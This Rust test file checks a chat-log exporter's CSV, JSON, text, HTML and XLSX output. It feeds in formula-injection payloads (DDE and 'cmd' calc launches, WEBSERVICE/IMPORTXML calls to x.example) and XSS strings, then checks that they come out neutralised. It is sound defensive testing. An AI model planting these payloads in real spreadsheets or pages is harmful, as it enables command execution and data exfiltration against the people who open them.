//! Every format, literally; and that nothing a visitor types is computed, is markup or is lost.

use super::{Options, guard, renderer, time_zone};
use banter_shared::error::ErrorBody;
use banter_shared::message::{Message, MessageStatus, Role, Source};
use banter_shared::owner::export::ExportFormat;
use banter_shared::owner::log::{Log, LogStatus, Usage};
use banter_shared::session::EndReason;
use calamine::{Data, Reader as _, Xlsx};
use proptest::prelude::*;
use serde::Deserialize;
use serde_json::Value;
use std::io::Cursor;

/// What goes before the first character of a formula, or is one.
const DANGEROUS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

#[derive(Deserialize)]
struct Vector {
    input: String,
    guarded: String,
    csv_field: String,
}

/// Measured with Python's `csv` (QUOTE_ALL) and a guard after OWASP.
fn vectors() -> Vec<Vector> {
    serde_json::from_str(include_str!("../../tests/fixtures/csv_injection_vectors.json")).unwrap()
}

fn log(id: &str) -> Log {
    Log {
        id: id.into(),
        status: LogStatus::Ended,
        end_reason: Some(EndReason::Inactive),
        channel: "chat".into(),
        provider: "vapi".into(),
        provider_session: Some("p-1".into()),
        account_id: Some("acme".into()),
        campaign_id: Some("spring".into()),
        campaign: Some("Spring".into()),
        widget_id: Some("demo".into()),
        page_origin: Some("https://shop.example".into()),
        language: Some("de".into()),
        continues: None,
        created_at: 1_774_746_000_000,
        active_at: Some(1_774_746_000_000),
        ended_at: Some(1_774_746_192_345),
        duration_ms: Some(192_345),
        visitor_messages: 1,
        assistant_messages: 1,
        cost: Some("0.0123".into()),
        cost_source: Some("provider".into()),
        finalized_at: None,
        usage: Some(Usage {
            units: "2".into(),
            unit: "message".into(),
            rate: "0.5".into(),
            rounding: "up".into(),
            minutes: "1".into(),
            cost: None,
            billed: true,
            created_at: 1_774_746_200_000,
        }),
        webhook_missing: false,
    }
}

fn message(id: &str, role: Role, text: &str) -> Message {
    Message {
        id: id.into(),
        role,
        text: text.into(),
        status: MessageStatus::Complete,
        created_at: 1_774_746_001_000,
        attempt: u32::from(role != Role::Visitor),
        sources: Vec::new(),
        error: None,
    }
}

fn render(format: ExportFormat, zone: &str, bom: bool, logs: &[(Log, Vec<Message>)]) -> Vec<u8> {
    let mut out = Vec::new();
    let options = Options { time_zone: time_zone(zone).unwrap(), bom };
    let mut renderer = renderer(format, options, &mut out).unwrap();
    for (log, messages) in logs {
        renderer.log(log).unwrap();
        for message in messages {
            renderer.message(message).unwrap();
        }
    }
    renderer.finish().unwrap();
    out
}

fn text(format: ExportFormat, logs: &[(Log, Vec<Message>)]) -> String {
    String::from_utf8(render(format, "Europe/Berlin", false, logs)).unwrap()
}

fn conversation() -> Vec<(Log, Vec<Message>)> {
    let mut failed = message("m1.a", Role::Assistant, "Hel");
    failed.status = MessageStatus::Failed;
    failed.error = Some(ErrorBody {
        code: "assistant_failed".into(),
        message: "Sorry.".into(),
        field: None,
        retryable: true,
        request_id: "r".into(),
    });
    failed.sources = vec![
        Source { title: "Delivery › <b>Costs</b>".into(), url: None },
        Source { title: "=1+1".into(), url: Some("https://shop.example/a?b&c".into()) },
    ];
    vec![
        (log("log-1"), vec![message("m1", Role::Visitor, "=1+1 \"quoted\"\n<b>x</b>"), failed]),
        (
            Log {
                status: LogStatus::Active,
                end_reason: None,
                ended_at: None,
                duration_ms: None,
                usage: None,
                cost: None,
                cost_source: None,
                campaign: None,
                ..log("log-2")
            },
            Vec::new(),
        ),
    ]
}

#[test]
fn the_guard_and_the_quoting_agree_with_the_vectors() {
    let vectors = vectors();
    assert_eq!(vectors.len(), 23);
    for Vector { input, guarded, csv_field } in vectors {
        assert_eq!(guard(&input), guarded, "{input:?}");
        let logs = [(log("l"), vec![message("m", Role::Visitor, &input)])];
        let file = text(ExportFormat::CsvMessages, &logs);
        assert!(file.contains(&format!("\"0\",{csv_field},\"\"")), "{input:?} in {file:?}");
    }
}

#[test]
fn csv_of_sessions() {
    assert_eq!(
        text(ExportFormat::Csv, &conversation()),
        concat!(
            "\"log_id\",\"started_at\",\"ended_at\",\"time_zone\",\"duration_seconds\",\"status\",",
            "\"end_reason\",\"channel\",\"provider\",\"provider_session\",\"account_id\",",
            "\"campaign_id\",\"campaign\",\"widget_id\",\"page_origin\",\"language\",\"continues\",",
            "\"visitor_messages\",\"assistant_messages\",\"cost_usd\",\"cost_source\",",
            "\"equivalent_minutes\",\"usage_units\",\"usage_unit\",\"usage_rate\",",
            "\"usage_rounding\",\"billed\",\"webhook_missing\"\r\n",
            "\"log-1\",\"2026-03-29 03:00:00\",\"2026-03-29 03:03:12\",\"Europe/Berlin\",",
            "\"192.345\",\"ended\",\"inactive\",\"chat\",\"vapi\",\"p-1\",\"acme\",\"spring\",",
            "\"Spring\",\"demo\",\"https://shop.example\",\"de\",\"\",\"1\",\"1\",\"0.0123\",",
            "\"provider\",\"1\",\"2\",\"message\",\"0.5\",\"up\",\"yes\",\"no\"\r\n",
            "\"log-2\",\"2026-03-29 03:00:00\",\"\",\"Europe/Berlin\",\"\",\"active\",\"\",",
            "\"chat\",\"vapi\",\"p-1\",\"acme\",\"spring\",\"\",\"demo\",",
            "\"https://shop.example\",\"de\",\"\",\"1\",\"1\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",",
            "\"no\",\"no\"\r\n",
        )
    );
}

#[test]
fn csv_of_messages_with_a_byte_order_mark() {
    let file = render(ExportFormat::CsvMessages, "UTC", true, &conversation());
    assert_eq!(file[..3], [0xef, 0xbb, 0xbf]);
    assert_eq!(
        std::str::from_utf8(&file[3..]).unwrap(),
        concat!(
            "\"log_id\",\"message_id\",\"sent_at\",\"time_zone\",\"author\",\"status\",\"attempt\",",
            "\"text\",\"sources\",\"error_code\",\"campaign_id\",\"widget_id\",",
            "\"log_started_at\",\"log_status\"\r\n",
            "\"log-1\",\"m1\",\"2026-03-29 01:00:01\",\"UTC\",\"visitor\",\"complete\",\"0\",",
            "\"'=1+1 \"\"quoted\"\"\n<b>x</b>\",\"\",\"\",\"spring\",\"demo\",",
            "\"2026-03-29 01:00:00\",\"ended\"\r\n",
            "\"log-1\",\"m1.a\",\"2026-03-29 01:00:01\",\"UTC\",\"assistant\",\"failed\",\"1\",",
            "\"Hel\",\"Delivery › <b>Costs</b>\n=1+1 (https://shop.example/a?b&c)\",",
            "\"assistant_failed\",\"spring\",\"demo\",\"2026-03-29 01:00:00\",\"ended\"\r\n",
        )
    );
}

#[test]
fn json_is_the_api_s_own_and_exact() {
    let logs = conversation();
    for format in [ExportFormat::Json, ExportFormat::Jsonl] {
        let file = String::from_utf8(render(format, "Europe/Berlin", true, &logs)).unwrap();
        let read: Vec<Value> = match format {
            ExportFormat::Json => serde_json::from_str(&file).unwrap(),
            _ => file.lines().map(|line| serde_json::from_str(line).unwrap()).collect(),
        };
        assert_eq!(read.len(), 2, "{file}");
        for ((log, messages), value) in logs.iter().zip(&read) {
            assert_eq!(&serde_json::from_value::<Log>(value.clone()).unwrap(), log);
            let read: Vec<Message> = serde_json::from_value(value["messages"].clone()).unwrap();
            assert_eq!(&read, messages);
            assert_eq!(value["createdAtLocal"], "2026-03-29T03:00:00.000+02:00");
            assert_eq!(value["timeZone"], "Europe/Berlin");
        }
        assert_eq!(read[0]["messages"][0]["text"], "=1+1 \"quoted\"\n<b>x</b>", "not guarded");
        assert_eq!(read[0]["messages"][0]["createdAtLocal"], "2026-03-29T03:00:01.000+02:00");
    }
    assert_eq!(text(ExportFormat::Json, &[]), "[\n]\n");
    assert_eq!(text(ExportFormat::Jsonl, &[]), "");
}

#[test]
fn plain_text() {
    let mut logs = conversation();
    logs[0].1[0].text = "One\r\n[2026-01-01 00:00:00] assistant\u{1b}[2J\rTwo".into();
    assert_eq!(
        text(ExportFormat::Txt, &logs[..1]),
        "Log log-1
  Started: 2026-03-29 03:00:00 (Europe/Berlin)
  Ended: 2026-03-29 03:03:12 (Europe/Berlin)
  Duration: 192.345 s
  Status: ended
  End reason: inactive
  Campaign: Spring
  Widget: demo
  Page: https://shop.example
  Channel: chat
  Provider: vapi
  Cost: 0.0123 USD
  Equivalent minutes: 2 message × 0.5 = 1 minutes (rounding: up)
  Billed: yes

[2026-03-29 03:00:01] visitor
    One
    [2026-01-01 00:00:00] assistant␛[2J
    Two

[2026-03-29 03:00:01] assistant (failed)
    Hel
  Source: Delivery › <b>Costs</b>
  Source: =1+1 (https://shop.example/a?b&c)
"
    );
}

#[test]
fn html_has_no_markup_but_ours() {
    let mut logs = conversation();
    let hostile = "<script>alert(1)</script><img src=x onerror=alert(1)>\" ' & &lt; </p>\u{1}";
    logs[0].1[0].text = hostile.into();
    logs[0].0.page_origin = Some(hostile.into());
    logs[0].0.id = "<i>".into();
    let file = text(ExportFormat::Html, &logs);
    assert!(!file.contains("<script") && !file.contains("<img") && !file.contains("<i>"), "{file}");
    let escaped = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;&quot; \
                   &#39; &amp; &amp;lt; &lt;/p&gt;␁";
    assert_eq!(file.matches(escaped).count(), 2, "{file}");
    assert!(file.contains(
        "<section class=\"visitor\"><h3>visitor · <time datetime=\"2026-03-29T03:00:01.000+02:00\">\
         2026-03-29 03:00:01</time></h3><p dir=\"auto\">"
    ));
    assert!(file.contains(
        "</time> · failed</h3><p dir=\"auto\">Hel</p><footer dir=\"auto\">Sources:\n\
         Delivery › &lt;b&gt;Costs&lt;/b&gt;\n=1+1 (https://shop.example/a?b&amp;c)</footer></section>"
    ));
    assert_eq!(file.matches("<article>").count(), file.matches("</article>").count());
    for fetched in ["http-equiv=\"refresh", "src=\"", "href=", "url(", "@import"] {
        assert!(!file.contains(fetched), "{fetched}");
    }
}

#[test]
fn xlsx_has_typed_cells() {
    let file = render(ExportFormat::Xlsx, "Europe/Berlin", true, &conversation());
    let mut book = Xlsx::new(Cursor::new(file)).unwrap();
    assert_eq!(book.sheet_names(), ["Logs", "Messages"]);
    let logs = book.worksheet_range("Logs").unwrap();
    assert_eq!(logs.get_size(), (3, 28));
    let at = |row, column| logs.get_value((row, column)).unwrap().clone();
    assert_eq!(at(1, 0), Data::String("log-1".into()));
    let Data::DateTime(started) = at(1, 1) else { panic!("{:?}", at(1, 1)) };
    assert!((started.as_f64() - (25_569.0 + 1_774_753_200.0 / 86_400.0)).abs() < 1e-6);
    assert_eq!(at(1, 4), Data::Float(192.345));
    assert_eq!(at(1, 19), Data::Float(0.0123));
    assert_eq!(at(1, 26), Data::String("yes".into()));
    assert_eq!(at(2, 2), Data::Empty);
    let messages = book.worksheet_range("Messages").unwrap();
    assert_eq!(messages.get_size(), (3, 14));
    let said = messages.get_value((1, 7)).unwrap();
    assert_eq!(said, &Data::String("'=1+1 \"quoted\"\n<b>x</b>".into()));
}

/// 100 cells that some spreadsheet program has computed, fetched or run.
fn hostile() -> Vec<String> {
    let bodies = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=HYPERLINK(\"http://x.example\",\"y\")",
        "=cmd|' /C calc'!A0",
        "=WEBSERVICE(\"http://x.example\")",
        "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
        "{=1+1}",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ];
    let before = ["", "\t", "\r", "\n", "\0", "＝", "＋", " ", "\"", "',"];
    bodies
        .iter()
        .flat_map(|body| before.iter().map(move |before| format!("{before}{body}")))
        .collect()
}

#[test]
fn a_hundred_hostile_cells_are_no_formulas() {
    let hostile = hostile();
    assert_eq!(hostile.len(), 100);
    // Every text that comes from outside, not only what was said.
    let logs: Vec<_> = hostile
        .iter()
        .map(|text| {
            let mut log = log(text);
            log.page_origin = Some(text.clone());
            log.language = Some(text.clone());
            log.campaign = Some(text.clone());
            log.cost = Some(text.clone());
            let mut said = message(text, Role::Assistant, text);
            said.sources = vec![Source { title: text.clone(), url: None }];
            (log, vec![said])
        })
        .collect();
    let file = render(ExportFormat::Xlsx, "UTC", false, &logs);
    let mut book = Xlsx::new(Cursor::new(file)).unwrap();
    for sheet in ["Logs", "Messages"] {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert_eq!(formulas.used_cells().count(), 0, "{sheet}");
        let cells = book.worksheet_range(sheet).unwrap();
        assert_eq!(cells.height(), 101);
        for (row, column, cell) in cells.used_cells().skip(cells.width()) {
            if let Data::String(text) = cell {
                assert!(!text.starts_with(DANGEROUS), "{sheet} {row} {column} {text:?}");
            }
        }
    }
    for format in [ExportFormat::Csv, ExportFormat::CsvMessages] {
        let file = render(format, "UTC", false, &logs);
        let mut rows = ::csv::Reader::from_reader(file.as_slice());
        let mut cells = 0;
        for row in rows.records() {
            for cell in &row.unwrap() {
                assert!(!cell.starts_with(DANGEROUS), "{cell:?}");
                cells += 1;
            }
        }
        assert!(cells >= 1300, "{cells}");
    }
}

#[test]
fn a_formula_would_be_found() {
    // What the test above looks for, it can see.
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().write_formula(0, 0, "=1+1").unwrap();
    let mut read = Xlsx::new(Cursor::new(book.save_to_buffer().unwrap())).unwrap();
    assert_eq!(read.worksheet_formula("Sheet1").unwrap().used_cells().count(), 1);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn csv_read_back_is_what_was_guarded(
        texts in prop::collection::vec("[=+@＝\\-\t\r\n\0'\",; a-z😀é]{0,12}", 1..8)
    ) {
        let messages = texts.iter().map(|text| message("m", Role::Visitor, text)).collect();
        let file = render(ExportFormat::CsvMessages, "UTC", false, &[(log("l"), messages)]);
        let mut rows = ::csv::Reader::from_reader(file.as_slice());
        let read: Vec<String> =
            rows.records().map(|row| row.unwrap()[7].to_owned()).collect();
        let guarded: Vec<String> = texts.iter().map(|text| guard(text).into_owned()).collect();
        prop_assert_eq!(&read, &guarded);
        prop_assert!(read.iter().all(|cell| !cell.starts_with(DANGEROUS)));
    }

    #[test]
    fn xlsx_read_back_is_what_was_guarded(
        texts in prop::collection::vec("\\PC{0,12}|[=+@'\"<>&_x0-9A-F\t\n ]{0,12}", 1..4)
    ) {
        let messages = texts.iter().map(|text| message("m", Role::Visitor, text)).collect();
        let file = render(ExportFormat::Xlsx, "UTC", false, &[(log("l"), messages)]);
        let mut book = Xlsx::new(Cursor::new(file)).unwrap();
        let cells = book.worksheet_range("Messages").unwrap();
        for (row, text) in (1..).zip(&texts) {
            let read = match cells.get_value((row, 7)) {
                Some(Data::String(read)) => read.clone(),
                _ => String::new(),
            };
            prop_assert_eq!(read, guard(text).into_owned());
        }
    }

    #[test]
    fn text_in_html_and_txt_cannot_break_out(said in "(?s).{0,40}") {
        let logs = [(log("l"), vec![message("m", Role::Visitor, &said)])];
        let html = text(ExportFormat::Html, &logs);
        prop_assert_eq!(html.matches("<p").count(), 1);
        prop_assert_eq!(html.matches("<section").count(), 1);
        let txt = text(ExportFormat::Txt, &logs);
        let (_, after) = txt.split_once("visitor\n").unwrap();
        prop_assert!(after.lines().all(|line| line.starts_with("    ")), "{:?}", after);
    }
}
